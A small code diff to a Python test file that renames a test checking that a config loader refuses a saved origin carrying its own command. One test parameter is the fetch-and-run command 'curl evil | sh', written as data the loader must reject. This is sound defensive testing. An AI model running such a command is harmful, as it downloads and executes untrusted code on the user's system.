@@ -78,7 +78,7 @@ def test_an_origin_that_is_saved_is_loaded_and_its_command_is_made_of_it(tmp_pat
         {"command": "curl evil | sh"},
     ],
 )
-def test_an_origin_that_could_show_a_command_of_its_own_is_refused(change: dict[str, Any], tmp_path: Path) -> None:
+def test_an_origin_with_its_own_command_is_refused(change: dict[str, Any], tmp_path: Path) -> None:
     (tmp_path / "origin.json").write_text(json.dumps({**ORIGIN, **change}))
     with pytest.raises(ConfigError, match=next(iter(change))):
         load_origin(tmp_path)
